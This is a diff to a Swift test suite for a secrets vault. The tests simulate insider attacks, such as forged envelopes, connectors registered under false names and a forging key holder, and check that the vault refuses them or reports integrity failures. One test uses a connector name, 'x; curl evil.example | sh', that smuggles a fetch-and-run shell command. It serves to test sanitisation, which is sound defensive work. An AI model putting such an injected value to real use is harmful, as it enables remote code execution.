@@ -18,7 +18,7 @@ struct InsiderTests {
     let dev = try vault.session(.dev)
     let others = ConnectorDetails(name: "payroll", provider: "google", connectorID: "g")
     try dev.commit { transaction in
-      try transaction.add(.connector, "harmless", metadata: others.metadata, secret: secret("s")) { _, _, _ in }
+      try transaction.register(others, as: "harmless")
     }
     let ada = try vault.session(.ada)
     #expect(refusal { _ = try ada.connectors() }?.code == .integrity)
@@ -31,7 +31,7 @@ struct InsiderTests {
     let name = "x; curl evil.example | sh"
     let details = ConnectorDetails(name: name, provider: "google", connectorID: "g")
     try vault.session(.dev).commit { transaction in
-      try transaction.add(.connector, name, metadata: details.metadata, secret: secret("s")) { _, _, _ in }
+      try transaction.register(details, as: name)
     }
     let remedies = Set(try vault.session(.ada).exposures().filter { $0.kind == .connector }.map(\.remedy))
     #expect(remedies == ["custody connector rotate crm-sync", "custody connector rotate NAME"])
@@ -69,8 +69,8 @@ struct InsiderTests {
     func literal(_ bytes: [UInt8]) -> String { "x'" + bytes.map { String(format: "%02x", $0) }.joined() + "'" }
     try raw.run(
       """
-      INSERT INTO envelope SELECT item, generation, x'\(dev.hex)', entry, \(literal(sealed)), \(literal(SHA256.hash(sealed).bytes))
-      FROM envelope WHERE recipient = x'\(try #require(vault.people[.bea]).hex)'
+      INSERT INTO envelope SELECT item, kind, generation, x'\(dev.hex)', entry, \(literal(sealed)), \(literal(SHA256.hash(sealed).bytes))
+      FROM envelope WHERE kind = 1 AND recipient = x'\(try #require(vault.people[.bea]).hex)'
       """)
     #expect(refusal { _ = try vault.session(.dev).reveal("contoso/crm-sync", how: .pipe) }?.code == .notShared)
     #expect(refusal { _ = try vault.session(.audrey).verifyLog() }?.code == .integrity)
@@ -87,6 +87,7 @@ struct InsiderTests {
             entry.set(.item, token.id)
             entry.set(.revision, token.revision)
             entry.set(.generation, token.generation)
+            entry.set(.metadataGeneration, 1)
             entry.set(.to, dev.memberID)
             entry.set(.envelopeSHA256, SHA256.hash([1]))
           }
@@ -107,7 +108,7 @@ struct InsiderTests {
         try translating {
           let core = transaction.core
           let victim = try #require(core.history.members[ada])
-          let token = try #require(core.history.items.values.first { $0.kind == .token })
+          let token = try #require(core.history.items.first { $0.kind == .token })
           var draft = EntryDraft(
             EntryHeader(
               origin: core.history.origin, time: core.now(), actor: ada, seq: victim.lastSeq + 1,
@@ -115,6 +116,7 @@ struct InsiderTests {
           draft.set(.item, token.id)
           draft.set(.revision, token.revision)
           draft.set(.generation, token.generation)
+          draft.set(.metadataGeneration, 1)
           draft.set(.to, ada)
           draft.set(.envelopeSHA256, SHA256.hash([1]))
           draft.set(.until, Timestamp(milliseconds: 1_600_000_000_000))
@@ -140,6 +142,14 @@ struct InsiderTests {
   }
 }
 
+extension Custody.Transaction {
+  /// As a patched client registers a connector: under another name than its details have.
+  func register(_ details: ConnectorDetails, as name: String) throws {
+    let new = NewItem(kind: .connector, name: name, metadata: details.metadata, expires: nil)
+    _ = try add(new, secret: secret("s"))
+  }
+}
+
 extension Core {
   /// Whether this member's own key opens nothing of it.
   fileprivate func opensNothing(_ envelope: [UInt8]) -> Bool {
@@ -154,8 +164,12 @@ extension Core {
 final class Forger: KeyHolder {
   let keys: MemberKeys
   private let own: any KeyHolder
+  /// What it is handed to says that it checks: who has a patched client does not.
+  let signsElsewhere: Bool
 
-  init(_ keys: MemberKeys, _ own: any KeyHolder) { (self.keys, self.own) = (keys, own) }
+  init(_ keys: MemberKeys, _ own: any KeyHolder, signsElsewhere: Bool = true) {
+    (self.keys, self.own, self.signsElsewhere) = (keys, own, signsElsewhere)
+  }
 
   func unwrap<Purpose: KeyPurpose>(_ sealed: [UInt8], in arena: SecureArena) throws -> Key<Purpose> {
     try own.unwrap(sealed, in: arena)
